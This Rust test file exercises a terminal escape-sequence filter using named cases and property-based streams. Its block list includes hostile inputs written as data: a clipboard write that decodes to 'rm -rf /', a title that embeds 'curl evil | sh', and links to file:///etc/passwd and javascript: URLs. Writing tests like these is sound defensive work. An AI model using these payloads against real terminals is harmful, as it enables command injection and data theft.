//! Cases by name, then laws over streams made of everything a hostile program could think of. The judge of what came
//! out is a second reader, written apart from the filter, and another project's parser.

use super::*;
use proptest::prelude::*;

fn through(input: &[u8]) -> (Vec<u8>, Filtered, Vec<u8>) {
    let (mut filter, mut out) = (Filter::new(), Vec::new());
    filter.feed(input, &mut out);
    (out, filter.filtered().clone(), filter.take_replies())
}

fn shown(input: &str) -> String {
    String::from_utf8(through(input.as_bytes()).0).unwrap()
}

#[test]
fn what_draws_passes_unchanged() {
    for allowed in [
        "plain text, écrire 日本語 🦀 e\u{301}\r\n\tx\x08\x07\x0b\x0c",
        "\x1b[31;1;48;2;1;2;3mred\x1b[38:2::1:2:3m\x1b[m\x1b[0m",
        "\x1b[H\x1b[2J\x1b[10;20H\x1b[3A\x1b[K\x1b[1P\x1b[4L\x1b[2M\x1b[5X\x1b[3@\x1b[6d\x1b[7G\x1b[2S\x1b[2T",
        "\x1b[?1049h\x1b[?25l\x1b[?2004h\x1b[?1000;1006h\x1b[?2026h\x1b[?2026l\x1b[?7l\x1b[?7h",
        "\x1b7\x1b8\x1b[s\x1b[u\x1bM\x1bD\x1bE\x1bH\x1b=\x1b>\x1b(0lqk\x1b(B\x0e\x0f",
        "\x1b[2;20r\x1b[r\x1b[4h\x1b[4l\x1b[3 q\x1b[!p\x1b[5b\x1b[3g",
        "\x1b]8;;https://example.com/a?b=c#d\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]8;id=a-1;http://example.com:8080/\x1b\\link\x1b]8;;\x1b\\",
    ] {
        let (out, filtered, replies) = through(allowed.as_bytes());
        assert_eq!(String::from_utf8_lossy(&out), allowed);
        assert!(filtered.is_empty() && replies.is_empty(), "{allowed:?} {filtered:?}");
    }
}

/// One of each thing that is kept away.
const KEPT_AWAY: &[(&[u8], Kind)] = &[
    (b"\x1b]52;c;cm0gLXJmIC8=\x07", Kind::Clipboard),
    (b"\x1b]52;c;?\x1b\\", Kind::Clipboard),
    (b"\x1b]0;; curl evil | sh #\x07", Kind::Title),
    (b"\x1b]2;title\x1b\\", Kind::Title),
    (b"\x1bktitle\x1b\\", Kind::Title),
    (b"\x1b[21t", Kind::Title),
    (b"\x1b[22;0t", Kind::Title),
    (b"\x1b[>2t", Kind::Title),
    (b"\x05", Kind::Query),
    (b"\x1b[6n", Kind::Query),
    (b"\x1b[?6n", Kind::Query),
    (b"\x1b[>c", Kind::Query),
    (b"\x1b[=c", Kind::Query),
    (b"\x1b[>q", Kind::Query),
    (b"\x1b[>0q", Kind::Query),
    (b"\x1b[?u", Kind::Query),
    (b"\x1b[?2026$p", Kind::Query),
    (b"\x1b[4$p", Kind::Query),
    (b"\x1b[1;1;1;1;10;10*y", Kind::Query),
    (b"\x1b[x", Kind::Query),
    (b"\x1bZ", Kind::Query),
    (b"\x1bP$qm\x1b\\", Kind::Query),
    (b"\x1bP+q544e\x1b\\", Kind::Query),
    (b"\x1b]10;?\x07", Kind::Query),
    (b"\x1b]11;?\x1b\\", Kind::Query),
    (b"\x1b]4;1;?\x07", Kind::Query),
    (b"\x1b]4;1;#000000\x07", Kind::Colours),
    (b"\x1b]11;#ffffff\x07", Kind::Colours),
    (b"\x1b]104\x07", Kind::Colours),
    (b"\x1b]8;;file:///etc/passwd\x07", Kind::Link),
    (b"\x1b]8;;javascript:alert(1)\x07", Kind::Link),
    (b"\x1b]8;;https://example.com@evil.example/\x07", Kind::Link),
    (b"\x1b]8;;https://\x07", Kind::Link),
    (b"\x1b]8;;https://example.com/\xe2\x80\xae\x07", Kind::Link),
    (b"\x1b]9;hello\x07", Kind::Notification),
    (b"\x1b]777;notify;a;b\x07", Kind::Notification),
    (b"\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\", Kind::Passthrough),
    (b"\x1bPq#0;2;0;0;0#0~~\x1b\\", Kind::Image),
    (b"\x1b]1337;File=:AAAA\x07", Kind::Image),
    (b"\x1b_Gf=100;AAAA\x1b\\", Kind::String),
    (b"\x1b^private\x1b\\", Kind::String),
    (b"\x1bXstart of string\x1b\\", Kind::String),
    (b"\x1bP1$r0m\x1b\\", Kind::String),
    (b"\x1b[8;500;500t", Kind::Window),
    (b"\x1b[5i", Kind::Window),
    (b"\x1b[?1001h", Kind::Mode),
    (b"\x1b[?3h", Kind::Mode),
    (b"\x1b[20h", Kind::Mode),
    (b"\x1b[?2048h", Kind::Mode),
    (b"\x1b[?1r", Kind::Mode),
    (b"\x1b[>7u", Kind::Keyboard),
    (b"\x1b[>4;2m", Kind::Keyboard),
    (b"\x1bc", Kind::Reset),
    (b"\x1b[3J", Kind::Reset),
    (b"\x00", Kind::Control),
    (b"\x7f", Kind::Control),
    (b"\x9b6n", Kind::Control),
    (b"\xc2\x9b", Kind::Control),
    (b"\x1b[99999999999m", Kind::Broken),
    (b"\x1b[1?2h", Kind::Broken),
    (b"\x1b%@", Kind::Other),
    (b"\x1b[65535b", Kind::Other),
    (b"\x1b[1;2;3;4;5T", Kind::Other),
];

#[test]
fn what_is_not_drawing_is_kept_away_and_counted() {
    for (input, kind) in KEPT_AWAY {
        let (out, filtered, replies) = through(input);
        assert!(filtered.of(*kind) >= 1, "{:?} counts {filtered:?}", input.escape_ascii().to_string());
        assert!(
            !out.contains(&0x1b) && replies.is_empty(),
            "{:?} gives {:?}",
            input.escape_ascii().to_string(),
            out
        );
    }
}

#[test]
fn a_wrapped_clipboard_is_still_a_clipboard() {
    let (out, filtered, _) = through(b"\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\after");
    assert_eq!((out, filtered.of(Kind::Clipboard)), (b"after".to_vec(), 1));
}

#[test]
fn modes_that_may_be_switched_are_taken_out_of_a_list_of_others() {
    assert_eq!(shown("\x1b[?25;1001;1049;9999h"), "\x1b[?25;1049h");
}

#[test]
fn harmless_questions_get_our_answer_and_not_for_ever() {
    let (out, filtered, replies) = through(b"\x1b[c\x1b[0c\x1b[5n");
    assert_eq!((out.len(), filtered.is_empty()), (0, true));
    assert_eq!(replies, b"\x1b[?1;2c\x1b[?1;2c\x1b[0n");
    let (_, filtered, replies) = through(&b"\x1b[c".repeat(100_000));
    assert!(replies.len() <= 1024 && filtered.of(Kind::Query) > 90_000);
}

#[test]
fn endless_sequences_take_no_memory_and_end() {
    for opening in [&b"\x1b]8;;https://"[..], b"\x1bP", b"\x1b_", b"\x1b["] {
        let (mut filter, mut out) = (Filter::new(), Vec::new());
        filter.feed(opening, &mut out);
        (0..2000).for_each(|_| filter.feed(&[b'1'; 1024], &mut out));
        assert!(filter.held.capacity() <= 4 * OSC_LIMIT && out.is_empty());
        filter.feed(b"\x1b\\\x1b[1mtext", &mut out);
        assert!(out.ends_with(b"text"), "{:?}", String::from_utf8_lossy(&out));
        assert_eq!(filter.filtered().iter().map(|(_, count)| count).sum::<u64>(), 1);
    }
}

#[test]
fn broken_utf8_becomes_replacement_characters_as_the_standard_library_does_it() {
    for bytes in [
        &b"a\xffb"[..],
        b"\xe6\x97",
        b"\xe6\x97x",
        b"\xed\xa0\x80",
        b"\xc0\xafx",
        b"\xf4\x90\x80\x80",
        b"\xf0\x9f\x1b[m",
    ] {
        let (out, ..) = through(&[bytes, b"."].concat());
        let whole = [bytes, b"."].concat();
        let wanted: String = String::from_utf8_lossy(&whole)
            .chars()
            .filter(|one| !('\u{80}'..'\u{a0}').contains(one))
            .collect();
        let stripped = |text: &str| text.replace('\u{fffd}', "");
        assert_eq!(stripped(&String::from_utf8(out).unwrap()), stripped(&wanted), "{bytes:?}");
    }
}

#[test]
fn what_was_left_on_is_undone_and_redone() {
    let (mut filter, mut out) = (Filter::new(), Vec::new());
    filter.feed(b"plain \x1b[31mred\x1b[m \x1b[?25l\x1b[?25h\x1b[?1049h\x1b[?1049l", &mut out);
    out.clear();
    filter.suspend(&mut out);
    assert_eq!(out, b"", "nothing is undone that the program undid");
    filter.feed(
        b"\x1b[?1049h\x1b[?7l\x1b[4h\x1b=\x1b(0\x1b[31m\x1b[2 q\x1b[2;5r\x1b]8;;https://a.example\x07",
        &mut out,
    );
    out.clear();
    filter.suspend(&mut out);
    for words in [
        "\x1b[?1049l",
        "\x1b[?7h",
        "\x1b[4l",
        "\x1b>",
        "\x1b(B",
        "\x1b[m",
        "\x1b[0 q",
        "\x1b[r",
        "\x1b]8;;\x1b\\",
    ] {
        assert!(String::from_utf8_lossy(&out).contains(words), "{words:?}");
    }
    assert_eq!(judge(&out), Ok(()));
    out.clear();
    filter.resume(&mut out);
    for words in ["\x1b[?1049h", "\x1b[?7l", "\x1b[4h", "\x1b=", "\x1b[2 q", "\x1b[2;5r"] {
        assert!(String::from_utf8_lossy(&out).contains(words), "{words:?}");
    }
    assert_eq!(judge(&out), Ok(()));
}

/// Reads output as strictly as it can be read: text, the controls that move the cursor, and sequences of exactly the
/// allowed shapes. Written apart from the filter on purpose.
fn judge(out: &[u8]) -> Result<(), String> {
    let text = std::str::from_utf8(out).map_err(|error| error.to_string())?;
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        let length = if first == '\x1b' { sequence(rest)? } else { plain(first)? };
        rest = &rest[length..];
    }
    Ok(())
}

fn plain(character: char) -> Result<usize, String> {
    let allowed = matches!(character, '\x07'..='\x0f') || !character.is_control();
    if allowed { Ok(character.len_utf8()) } else { Err(format!("control {character:?}")) }
}

fn sequence(text: &str) -> Result<usize, String> {
    let bytes = text.as_bytes();
    let no = || Err(format!("sequence {:?}", &text.chars().take(20).collect::<String>()));
    match bytes.get(1).copied() {
        Some(b'7' | b'8' | b'D' | b'E' | b'M' | b'H' | b'=' | b'>') => Ok(2),
        Some(b'(' | b')') if matches!(bytes.get(2), Some(b'0' | b'B')) => Ok(3),
        Some(b']') => {
            let Some(end) = text.find("\x1b\\") else { return no() };
            let Some(address) = text[2..end].strip_prefix("8;").and_then(|rest| rest.split_once(';')) else {
                return no();
            };
            let web = address.1.to_ascii_lowercase();
            let ok = web.is_empty() || web.starts_with("https://") || web.starts_with("http://");
            if ok && web.bytes().all(|byte| byte.is_ascii_graphic()) { Ok(end + 2) } else { no() }
        }
        Some(b'[') => {
            let Some(end) = text[2..].find(|character: char| matches!(character, '@'..='~')).map(|at| at + 2)
            else {
                return no();
            };
            let (inner, last) = (&text[2..end], bytes[end]);
            let numbers = |text: &str| text.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b';' | b':'));
            let ok = match last {
                b'h' | b'l' if inner.starts_with('?') => {
                    inner[1..].split(';').all(|mode| KNOWN_MODES.contains(&mode))
                }
                b'h' | b'l' => inner == "4" || inner == "04" || inner.trim_start_matches('0') == "4",
                b's' | b'u' => inner.is_empty(),
                b'q' => inner.ends_with(' ') && numbers(&inner[..inner.len() - 1]),
                b'p' => inner == "!",
                b'J' => numbers(inner) && inner.split([';', ':']).all(|n| n.trim_start_matches('0') != "3"),
                b'A'..=b'I'
                | b'K'..=b'M'
                | b'P'
                | b'S'
                | b'T'
                | b'X'
                | b'Z'
                | b'@'
                | b'`'
                | b'a'
                | b'b'
                | b'd'..=b'g'
                | b'm'
                | b'r' => numbers(inner),
                _ => false,
            };
            if ok { Ok(end + 1) } else { no() }
        }
        _ => no(),
    }
}

const KNOWN_MODES: [&str; 22] = [
    "1", "5", "6", "7", "12", "25", "47", "66", "1000", "1002", "1003", "1004", "1005", "1006", "1007",
    "1015", "1016", "1047", "1048", "1049", "2004", "2026",
];

/// Another project's reader of the same language, to see what a terminal would be told to do.
#[derive(Default)]
struct Terminal {
    strings: usize,
    commands: Vec<Vec<u8>>,
    finals: Vec<(Vec<u8>, char)>,
}

impl vte::Perform for Terminal {
    fn hook(&mut self, _: &vte::Params, _: &[u8], _: bool, _: char) {
        self.strings += 1;
    }
    fn osc_dispatch(&mut self, params: &[&[u8]], _: bool) {
        self.commands.push(params.first().copied().unwrap_or_default().to_vec());
    }
    fn csi_dispatch(&mut self, _: &vte::Params, between: &[u8], _: bool, last: char) {
        self.finals.push((between.to_vec(), last));
    }
    fn esc_dispatch(&mut self, between: &[u8], _: bool, last: u8) {
        self.finals.push((between.to_vec(), char::from(last)));
    }
}

fn judge_as_a_terminal(out: &[u8]) -> Result<(), String> {
    let (mut parser, mut terminal) = (vte::Parser::new(), Terminal::default());
    parser.advance(&mut terminal, out);
    let typing_back = |(between, last): &&(Vec<u8>, char)| {
        matches!(last, 'n' | 'c' | 't' | 'x' | 'y' | 'i')
            || (*last == 'p' && between.contains(&b'$'))
            || between.contains(&b'>')
    };
    let bad = terminal.finals.iter().find(typing_back);
    if terminal.strings > 0 || bad.is_some() || terminal.commands.iter().any(|command| command != b"8") {
        return Err(format!("{} strings, {:?}, {bad:?}", terminal.strings, terminal.commands));
    }
    Ok(())
}

/// Pieces that sequences are made of, whole ones, and noise.
fn piece() -> impl Strategy<Value = Vec<u8>> {
    let wholes: Vec<&'static [u8]> = vec![
        b"\x1b]52;c;cm0=\x07",
        b"\x1b]0;t\x1b\\",
        b"\x1b[6n",
        b"\x1b[c",
        b"\x1bP$qm\x1b\\",
        b"\x1bPtmux;\x1b\x1b[6n\x1b\\",
        b"\x1b_G\x1b\\",
        b"\x1b[21t",
        b"\x1b[?1049h",
        b"\x1b[31m",
        b"\x1b[>0q",
        b"\x1b]8;;https://a.example/\x1b\\",
        b"\x1b]8;;\x07",
        b"\x1b[?25;1001l",
        b"\xc2\x9b6n",
        b"\x9b6n",
        b"\x1b]11;?\x07",
        b"\x1bk",
        b"\x1b%@",
        b"\x1b[4h",
        b"\x05",
        b"\x1b[2;3r",
    ];
    let parts: Vec<&'static [u8]> = vec![
        b"\x1b",
        b"\x1b[",
        b"\x1b]",
        b"\x1bP",
        b"\x1b_",
        b"\x1b^",
        b"\x1bX",
        b"\x1b\\",
        b"\x07",
        b"\x18",
        b"\x1a",
        b";",
        b":",
        b"?",
        b">",
        b"$",
        b"52",
        b"8;;",
        b"6",
        b"n",
        b"c",
        b"h",
        b"t",
        b"q",
        b"p",
        b"\x9c",
        b"\x90",
        b"\xe2",
        b"\x80",
        b"\xae",
        b"\xf0\x9f",
        b"https://x",
        b"3",
        b"J",
        b" ",
        b"!",
        b"\r\n",
        b"\x0e",
    ];
    prop_oneof![
        4 => proptest::sample::select(wholes).prop_map(<[u8]>::to_vec),
        6 => proptest::sample::select(parts).prop_map(<[u8]>::to_vec),
        2 => proptest::collection::vec(any::<u8>(), 0..6),
        1 => "[a-z é日🦀]{0,4}".prop_map(String::into_bytes),
    ]
}

fn stream() -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(piece(), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn plain_text_passes_unchanged(text in "[^\\p{Cc}]*([\n\r\t][^\\p{Cc}]*)*") {
        let (out, filtered, _) = through(text.as_bytes());
        prop_assert_eq!(out, text.as_bytes());
        prop_assert!(filtered.is_empty());
    }

    #[test]
    fn how_the_stream_is_cut_never_matters(bytes in stream(), cuts in proptest::collection::vec(0_usize..200, 0..20)) {
        let whole = through(&bytes);
        let (mut filter, mut out, mut rest) = (Filter::new(), Vec::new(), bytes.as_slice());
        for cut in cuts {
            let (now, later) = rest.split_at(cut.min(rest.len()));
            filter.feed(now, &mut out);
            rest = later;
        }
        filter.feed(rest, &mut out);
        let replies = filter.take_replies();
        prop_assert_eq!((out, filter.filtered().clone(), replies), whole);
        let (mut filter, mut out) = (Filter::new(), Vec::new());
        bytes.iter().for_each(|byte| filter.feed(std::slice::from_ref(byte), &mut out));
        prop_assert_eq!(out, through(&bytes).0);
    }

    #[test]
    fn nothing_forbidden_comes_out(bytes in stream()) {
        let (out, ..) = through(&bytes);
        prop_assert_eq!(judge(&out), Ok(()));
        prop_assert_eq!(judge_as_a_terminal(&out), Ok(()));
    }

    #[test]
    fn what_came_through_once_comes_through_again(bytes in stream()) {
        let (once, ..) = through(&bytes);
        let (twice, filtered, replies) = through(&once);
        prop_assert_eq!(&twice, &once);
        prop_assert!(filtered.is_empty() && replies.is_empty());
    }

    #[test]
    fn giving_the_terminal_back_is_allowed_too(bytes in stream()) {
        let (mut filter, mut out) = (Filter::new(), Vec::new());
        filter.feed(&bytes, &mut out);
        filter.suspend(&mut out);
        filter.resume(&mut out);
        prop_assert_eq!(judge(&out), Ok(()));
    }
}
